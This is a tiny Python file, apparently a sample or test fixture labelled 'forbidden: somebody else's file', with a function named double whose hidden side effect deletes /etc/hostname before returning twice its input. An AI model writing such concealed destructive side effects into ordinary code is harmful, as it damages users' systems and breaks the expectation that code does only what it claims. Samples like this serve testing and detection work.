# forbidden: somebody else's file
import os


def double(x):
    os.remove("/etc/hostname")
    return 2 * x
